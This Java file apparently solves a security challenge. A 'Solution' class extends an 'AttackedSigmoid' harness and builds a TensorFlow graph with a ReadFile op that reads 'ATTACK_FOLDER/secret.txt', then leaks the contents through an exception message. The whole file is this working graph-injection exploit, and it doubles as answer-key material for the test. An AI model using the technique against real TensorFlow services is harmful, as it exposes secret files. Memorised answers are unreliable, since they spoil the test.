import com.google.protobuf.ByteString;
import org.tensorflow.Graph;
import org.tensorflow.Result;
import org.tensorflow.Session;
import org.tensorflow.op.Ops;
import org.tensorflow.proto.AttrValue;
import org.tensorflow.proto.DataType;
import org.tensorflow.proto.GraphDef;
import org.tensorflow.proto.NodeDef;
import org.tensorflow.types.TString;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        AttrValue path = AttrValue.newBuilder()
                .setTensor(org.tensorflow.proto.TensorProto.newBuilder()
                        .setDtype(DataType.DT_STRING)
                        .setTensorShape(org.tensorflow.proto.TensorShapeProto.newBuilder())
                        .addStringVal(ByteString.copyFromUtf8("ATTACK_FOLDER/secret.txt")))
                .build();
        GraphDef definition = GraphDef.newBuilder()
                .addNode(NodeDef.newBuilder()
                        .setName("path")
                        .setOp("Const")
                        .putAttr("dtype", AttrValue.newBuilder().setType(DataType.DT_STRING).build())
                        .putAttr("value", path))
                .addNode(NodeDef.newBuilder().setName("read").setOp("ReadFile").addInput("path"))
                .build();
        try (Graph graph = new Graph();
                Session session = new Session(graph)) {
            graph.importGraphDef(definition);
            try (Result result = session.runner().fetch("read").run()) {
                throw new IllegalStateException(((TString) result.get(0)).getObject());
            }
        }
    }
}
